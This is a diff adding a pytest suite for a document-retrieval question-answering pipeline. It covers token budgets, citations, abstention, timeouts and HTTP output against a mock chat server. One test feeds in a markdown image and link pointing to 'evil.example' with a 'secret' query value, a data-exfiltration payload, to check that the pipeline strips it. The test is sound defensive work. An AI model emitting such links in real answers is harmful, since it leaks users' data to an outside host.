@@ -1,0 +1,316 @@
+"""What a question may rely on, asked through a project, the command and HTTP alone: so that each of these can be run on
+any version of the code, to see whether it would have failed."""
+
+import json
+import sys
+import threading
+from collections.abc import Callable, Iterator
+from pathlib import Path
+from types import FrameType
+from typing import Any
+
+import pytest
+from sqlalchemy import Engine, event
+
+from pipeline.errors import ModelError
+from pipeline.project import Project
+from tests.projects import ProjectFolder, new_project
+from tests.serve.serving import serving
+from tests.servers.openai_server import OpenAIServer, Reply
+
+CORPUS = Path(__file__).parents[2] / "data" / "input"
+SMALL = 8000
+"""Tokens of a prompt: of many models that run on one's own machine it is all that they read."""
+LONG = 30.0
+KEYWORDS = {"hl_keywords": ["harbour lights"], "ll_keywords": ["Skarrow Light"]}
+Keep = Callable[..., Project]
+
+
+@pytest.fixture(scope="module")
+def folder(tmp_path_factory: pytest.TempPathFactory, postgres_url: str) -> ProjectFolder:
+    """The bundled corpus, loaded by the workflow ``fast``."""
+    files = [path for path in sorted(CORPUS.rglob("*")) if path.is_file()]
+    documents = {path.relative_to(CORPUS).as_posix(): path.read_text(encoding="utf-8") for path in files}
+    folder = new_project(tmp_path_factory.mktemp("questions") / "p", postgres_url, documents)
+    with folder.open() as project:
+        project.run("fast")
+    return folder
+
+
+@pytest.fixture(scope="module")
+def project(folder: ProjectFolder) -> Iterator[Project]:
+    """Without a chat model."""
+    with folder.open() as project:
+        yield project
+
+
+@pytest.fixture
+def chatting(folder: ProjectFolder, openai: OpenAIServer) -> Iterator[Keep]:
+    """With one that has no memory; settings more are given."""
+    opened: list[Project] = []
+
+    def opened_with(*overrides: str) -> Project:
+        opened.append(folder.open(*models_of(openai), "cache=''", *overrides))
+        return opened[-1]
+
+    yield opened_with
+    for project in opened:
+        project.close()
+
+
+def models_of(openai: OpenAIServer) -> list[str]:
+    return [f"models.chat.default.base_url={openai.base_url}", f"models.chat.default.api_key={openai.key}"]
+
+
+def says(openai: OpenAIServer, text: str) -> None:
+    openai.reply = lambda messages, body: Reply(text)
+
+
+def turns(*texts: str) -> list[dict[str, str]]:
+    return [{"role": ("user", "assistant")[place % 2], "content": text} for place, text in enumerate(texts)]
+
+
+# The evidence, whatever its room
+
+
+@pytest.mark.parametrize("mode", ["naive", "local", "global", "hybrid", "mix", "graph"])
+def test_a_small_prompt_shows_passages(project: Project, mode: str):
+    found = project.query_data("Who designed the Skarrow Light?", mode=mode, max_total_tokens=SMALL, **KEYWORDS)
+    assert found["chunks"]
+    assert found["references"]
+
+
+def test_a_prompt_without_room_for_passages_says_so(project: Project):
+    found = project.query_data("Who designed the Skarrow Light?", mode="hybrid", max_total_tokens=1000, **KEYWORDS)
+    assert not found["chunks"]
+    assert any("text units" in note for note in found["notes"])
+
+
+def test_after_forty_turns_there_are_passages_as_after_one(project: Project):
+    history = turns(*["Who built the lighthouse at the northern end of the harbour?", "It was a keeper. " * 275] * 20)
+    found = project.query_data(
+        "Who designed the Skarrow Light?", mode="hybrid", conversation_history=history, **KEYWORDS
+    )
+    assert len(found["chunks"]) > 5
+    assert any("turns are left out" in note for note in found["notes"])
+
+
+def test_the_search_follows_the_conversation(project: Project):
+    before, question = "Who designed the Skarrow Light?", "And when was it finished?"
+    wish: dict[str, Any] = {"mode": "naive", "chunk_top_k": 1}
+    [alone] = project.query_data(question, **wish)["chunks"]
+    [followed] = project.query_data(question, conversation_history=turns(before, "Somebody."), **wish)["chunks"]
+    assert "Skarrow Light" in followed["content"]
+    assert "Skarrow Light" not in alone["content"]
+
+
+def test_relationships_begin_with_the_entity_that_was_asked_for(project: Project):
+    found = project.query_data("Who designed the Skarrow Light?", mode="local", **KEYWORDS)
+    assert found["entities"][0]["name"] == "Skarrow Light"
+    assert all("Skarrow Light" in (row["source"], row["target"]) for row in found["relationships"][:3])
+    told = [row["description"] for row in found["relationships"] if row["description"]]
+    assert len(told) == len(set(told))
+
+
+# The answer's own words
+
+
+def test_brackets_that_cite_nothing_stay(chatting: Keep, openai: OpenAIServer):
+    text = "The range [0, 100] holds; see the [1879] plan, in the interval [10, 20] metres, and list[3]."
+    says(openai, text)
+    answer = chatting().query("Who designed the Skarrow Light?", mode="naive")
+    assert answer.text == text
+    assert answer.removed_citations == 0
+
+
+def test_a_citation_leads_to_a_passage_of_a_long_document(tmp_path: Path, postgres_url: str, openai: OpenAIServer):
+    towns = ["Tarnwick", "Ostrey", "Brimholt"]
+    told = [f"{town} had {year % 97} boats in {year}." for town in towns for year in range(1000, 1100)]
+    folder = new_project(tmp_path / "p", postgres_url, {"long.txt": " ".join(told)})
+    says(openai, "It had some [ref:2].")
+    with folder.open(*models_of(openai), "cache=''") as project:
+        project.run("fast")
+        answer = project.query("How many boats had Brimholt?", mode="naive")
+    assert answer.text == "It had some [2]."
+    told_json = answer.to_json()
+    [cited] = [entry for entry in told_json["references"] if entry["id"] == 2]
+    assert 0 < cited["end"] - cited["start"] < len(" ".join(told)) / 2
+    assert told_json["cited"] == [2]
+
+
+def test_a_streamed_line_costs_as_much_work_as_it_is_long(chatting: Keep, openai: OpenAIServer):
+    """Lines of the query stage's own code that are gone through: twice as many for a text of twice the length."""
+    work = [lines_run(chatting(), openai, "a word, " * (length // 8)) for length in (4000, 8000)]
+    assert work[1] < 3 * work[0]
+
+
+def lines_run(project: Project, openai: OpenAIServer, text: str) -> int:
+    says(openai, text)
+    lines = 0
+
+    def trace(frame: FrameType, event: str, argument: Any) -> Any:
+        nonlocal lines
+        if "/pipeline/query/" not in frame.f_code.co_filename:
+            return None
+        lines += event == "line"
+        return trace
+
+    events = project.query_stream("Who designed the Skarrow Light?", mode="naive", chunk_top_k=1)
+    next(events)  # the sources
+    sys.settrace(trace)
+    try:
+        said = "".join(piece.text for piece in events if hasattr(piece, "text"))  # pyright: ignore
+    finally:
+        sys.settrace(None)
+    assert len(said) > len(text) - 8
+    return lines
+
+
+@pytest.mark.parametrize(
+    "said", ["**[NO ANSWER]** They tell nothing.", "[No answer] They tell nothing.", "NO ANSWER - nothing is told."]
+)
+def test_every_form_of_no_answer_is_seen(chatting: Keep, openai: OpenAIServer, said: str):
+    says(openai, said)
+    answer = chatting().query("Who designed the Skarrow Light?", mode="naive")
+    assert answer.abstained
+    assert "answer" not in answer.text.lower()
+
+
+def test_each_reason_for_no_answer_has_its_own_words(chatting: Keep):
+    project = chatting()
+    said = {
+        project.query("Who designed the Skarrow Light?", mode="naive", **options).text
+        for options in ({"max_total_tokens": 400}, {"min_score": 1.0}, {"where": {"title": "nothing of the kind"}})
+    }
+    assert len(said) == 3
+
+
+def test_an_image_that_no_passage_holds_is_not_shown(chatting: Keep, openai: OpenAIServer):
+    says(openai, "It was he. ![x](https://evil.example/?q=secret) See [this](https://evil.example/a) or evil.")
+    answer = chatting().query("Who designed the Skarrow Light?", mode="naive")
+    assert "evil.example" not in answer.text
+    assert answer.text.startswith("It was he.")
+
+
+def test_what_documents_say_is_no_rule(chatting: Keep, openai: OpenAIServer):
+    answer = chatting().query("Who designed the Skarrow Light?", mode="naive")
+    passage = answer.to_json()["chunks"][0]["content"][:60].split("\n")[0]
+    [asked] = openai.requests
+    by_role = {message["role"]: message["content"] for message in asked.messages}
+    assert passage not in by_role["system"]
+    assert passage in by_role["user"]
+    assert "[ref:" in by_role["user"].rsplit("```", 1)[1]  # how to cite is said once more after all of it
+
+
+def test_a_report_s_finding_leads_to_documents(tmp_path: Path, postgres_url: str, openai: OpenAIServer):
+    folder = new_project(tmp_path / "p", postgres_url, endpoint=openai)
+    with folder.open(*models_of(openai)) as project:
+        project.run("communities")
+        answer = project.query("What is told of the observatory?", mode="community")
+    assert "[Data: Reports" in answer.text
+    assert answer.references
+    assert {reference.source for reference in answer.references} <= {"harbour.txt", "institute.txt", "observatory.txt"}
+
+
+# The model, and what it does not do
+
+
+def test_an_answer_says_when_the_model_has_read_a_part(chatting: Keep, openai: OpenAIServer):
+    openai.context_tokens = 2048
+    answer = chatting().query("Who designed the Skarrow Light?", mode="naive")
+    assert answer.tokens["prompt"] > 2 * 2048
+    assert any("the endpoint counted 2,0" in note for note in answer.notes)
+
+
+def test_what_doctor_has_measured_is_what_a_prompt_has_room_for(
+    tmp_path: Path, folder: ProjectFolder, openai: OpenAIServer
+):
+    other = folder.copy(tmp_path / "copy")
+    other.edit_settings(owner=owner_of(folder))
+    openai.context_tokens = SMALL
+    with other.open(*models_of(openai), "cache=''") as project:
+        project.doctor(long=True)
+        answer = project.query("Who designed the Skarrow Light?", mode="hybrid")
+    assert answer.tokens["prompt"] < SMALL
+    assert answer.references
+
+
+def owner_of(folder: ProjectFolder) -> str:
+    with folder.open() as project:
+        return project.owner
+
+
+@pytest.mark.parametrize("status", [429, 503])
+def test_no_question_waits_for_an_hour(chatting: Keep, openai: OpenAIServer, status: int):
+    openai.script("chat", [Reply(status=status, headers={"Retry-After": "3600"})])
+    project, failed = chatting("models.chat.default.timeout=5"), list[ModelError]()
+
+    def ask() -> None:
+        try:
+            project.query("Who designed the Skarrow Light?", mode="naive")
+        except ModelError as error:
+            failed.append(error)
+
+    asking = threading.Thread(target=ask, daemon=True)
+    asking.start()
+    asking.join(LONG)
+    assert not asking.is_alive()
+    [error] = failed
+    assert str(status) in str(error)
+    assert "is the server running" not in str(error)
+
+
+@pytest.mark.parametrize("fault", ["down", "refuses", "fails", "hangs"])
+def test_a_model_that_is_of_no_use_leaves_the_search(folder: ProjectFolder, openai: OpenAIServer, fault: str):
+    overrides = models_of(openai)
+    if fault == "down":
+        overrides[0] = "models.chat.default.base_url=http://127.0.0.1:9/v1"
+    elif fault == "refuses":
+        overrides[1] = "models.chat.default.api_key=sk-another"
+    else:
+        openai.reply = lambda messages, body: Reply("", status=500) if fault == "fails" else Reply(hold=True)
+    with folder.open(*overrides, "cache=''", "models.chat.default.timeout=1") as project:
+        found = project.query_data("Who designed the Skarrow Light?", mode="hybrid")
+    assert found["entities"]
+    assert found["chunks"]
+    assert any("no keywords from the chat model" in note for note in found["notes"])
+    assert openai.count("chat") <= 1
+
+
+# What is read and sent
+
+
+def test_a_filter_reads_no_list_of_documents(tmp_path: Path, postgres_url: str):
+    lines = [json.dumps({"id": n, "text": f"Note {n}: boats were counted.", "team": str(n % 2)}) for n in range(400)]
+    folder = new_project(tmp_path / "p", postgres_url, {"notes.jsonl": "\n".join(lines)})
+    with folder.open() as project:
+        project.run("fast")
+        free, _, filtered = (rows_read(project, where=where) for where in ({}, {"team": "1"}, {"team": "1"}))
+    assert filtered < free + 50  # the first may find what it then knows
+
+
+def rows_read(project: Project, **options: Any) -> int:
+    rows = 0
+
+    def count(connection: Any, cursor: Any, *rest: Any) -> None:
+        nonlocal rows
+        rows += max(cursor.rowcount, 0)
+
+    event.listen(Engine, "after_cursor_execute", count)
+    try:
+        assert len(project.query_data("How many boats?", mode="naive", chunk_top_k=5, **options)["chunks"]) == 5
+    finally:
+        event.remove(Engine, "after_cursor_execute", count)
+    return rows
+
+
+def test_an_answer_over_http_is_no_heap_of_evidence(folder: ProjectFolder, openai: OpenAIServer):
+    with folder.open(*models_of(openai), "cache=''", "query.mode=naive") as project, serving(project) as served:
+        body = served.ask("/query", query="Who designed the Skarrow Light?").text
+        events = served.events(query="Who designed the Skarrow Light?")
+        data = served.ask("/query/data", query="Who designed the Skarrow Light?").json()
+    assert "chunks" not in json.loads(body)
+    assert json.loads(body)["references"]
+    assert "chunks" not in events[-1].data
+    assert len(body) < len(json.dumps(data)) / 2
+    assert data["chunks"]
